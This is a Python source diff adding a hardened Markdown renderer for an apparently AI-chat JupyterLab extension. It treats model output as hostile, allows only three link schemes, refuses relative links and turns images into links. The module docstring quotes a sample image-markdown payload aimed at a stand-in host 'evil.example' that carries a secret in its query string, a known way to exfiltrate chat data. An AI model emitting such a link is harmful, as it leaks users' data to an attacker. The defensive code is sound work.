@@ -1,0 +1,121 @@
+"""The one configuration of the Markdown parser: a model's text comes in, HTML that can do nothing but show goes out.
+
+The text is hostile by rule. No raw HTML, three link schemes, and nothing that a browser would load by itself: an image
+becomes a link, since `![](https://evil.example/?secret)` is the classic way to carry data out of a chat.
+"""
+
+from __future__ import annotations
+
+import re
+from collections.abc import Sequence
+from html import escape
+from typing import Any, cast
+from urllib.parse import urlsplit
+
+from markdown_it import MarkdownIt
+from markdown_it.renderer import RendererHTML
+from markdown_it.token import Token
+from mdit_py_plugins.footnote import footnote_plugin
+from mdit_py_plugins.tasklists import tasklists_plugin
+
+from nbclaude.render.highlight import CodeHighlighter
+from nbclaude.render.maths import maths_plugin
+
+__all__ = ["build_parser", "is_safe_link", "render_markdown"]
+
+_SAFE_SCHEMES = ("http", "https", "mailto")
+_LANGUAGE = re.compile(r"[^\s{}:,]+")
+
+
+def is_safe_link(url: str) -> bool:
+    """Tell whether a link may be clicked: http, https, mailto, or a place in the same answer.
+
+    Relative addresses are refused: in JupyterLab they would lead to the user's own server.
+    """
+    if url.startswith("#"):
+        return True
+    scheme, colon, _ = url.partition(":")
+    return bool(colon) and scheme.lower() in _SAFE_SCHEMES
+
+
+def build_parser(highlighter: CodeHighlighter | None = None) -> MarkdownIt:
+    """Build the parser; `highlighter` remembers the code blocks of one answer."""
+    md = MarkdownIt("js-default", {"linkify": True, "html": False, "typographer": False})
+    # markdown-it's link rules ask this method; their own check lets data: images and relative addresses through.
+    md.validateLink = is_safe_link  # type: ignore[method-assign]
+    if md.linkify is not None:
+        # "main.py" is a file, not a host in Paraguay.
+        md.linkify.set({"fuzzy_link": False, "fuzzy_email": False, "fuzzy_ip": False})
+    md.use(footnote_plugin, inline=False).use(tasklists_plugin).use(maths_plugin)
+    code = _CodeRules(highlighter or CodeHighlighter())
+    rules = cast(RendererHTML, md.renderer).rules
+    rules["fence"] = code.fence
+    rules["code_block"] = _render_indented_code
+    rules["image"] = _render_image
+    rules["link_open"] = _render_link_open
+    rules["table_open"] = lambda *_: '<div class="table"><table>\n'
+    rules["table_close"] = lambda *_: "</table></div>\n"
+    # While an answer grows, a footnote's text stands where it was written; at the end all of them move to the foot.
+    rules["footnote_reference_open"] = _render_footnote_draft
+    rules["footnote_reference_close"] = lambda *_: "</div>\n"
+    return md
+
+
+def render_markdown(text: str, document_id: str = "") -> str:
+    """Render a whole text at once. `document_id` keeps footnote anchors of different answers apart."""
+    html: str = build_parser().render(text, {"docId": document_id})
+    return html
+
+
+class _CodeRules:
+    """Render rules for code blocks; a fence that has no end yet (`token.meta["open"]`) is still growing."""
+
+    def __init__(self, highlighter: CodeHighlighter) -> None:
+        self._highlighter = highlighter
+
+    def fence(self, tokens: Sequence[Token], index: int, options: Any, env: Any) -> str:
+        token = tokens[index]
+        found = _LANGUAGE.match(token.info.strip())
+        language = found.group() if found else ""
+        render = self._highlighter.growing if token.meta.get("open") else self._highlighter.finished
+        return _code_block(render(token.content, language), language)
+
+
+def _render_indented_code(tokens: Sequence[Token], index: int, options: Any, env: Any) -> str:
+    return _code_block(escape(tokens[index].content, quote=False), "")
+
+
+def _code_block(code_html: str, language: str) -> str:
+    if not language:
+        return f'<div class="code"><pre><code>{code_html}</code></pre></div>\n'
+    name = escape(language)
+    return (
+        f'<div class="code" data-language="{name}"><pre><code class="language-{name}">{code_html}</code></pre></div>\n'
+    )
+
+
+def _render_link_open(tokens: Sequence[Token], index: int, options: Any, env: Any) -> str:
+    token = tokens[index]
+    if not str(token.attrGet("href") or "").startswith("#"):
+        token.attrSet("target", "_blank")
+        token.attrSet("rel", "noopener noreferrer nofollow")
+    attributes = "".join(f' {name}="{escape(str(value))}"' for name, value in token.attrs.items())
+    return f"<a{attributes}>"
+
+
+def _render_image(tokens: Sequence[Token], index: int, options: Any, env: Any) -> str:
+    token = tokens[index]
+    alt = "".join(child.content for child in token.children or ()) or "image"
+    url = str(token.attrGet("src") or "")
+    label = f"🖼 {escape(alt)}"
+    host = urlsplit(url).hostname
+    if host:
+        label += f" ({escape(host)})"
+    inside_link = sum({"link_open": 1, "link_close": -1}.get(before.type, 0) for before in tokens[:index])
+    if inside_link:
+        return f'<span class="image">{label}</span>'
+    return f'<a class="image" href="{escape(url)}" target="_blank" rel="noopener noreferrer nofollow">{label}</a>'
+
+
+def _render_footnote_draft(tokens: Sequence[Token], index: int, options: Any, env: Any) -> str:
+    return f'<div class="footnote"><sup>[{escape(tokens[index].meta["label"])}]</sup>\n'
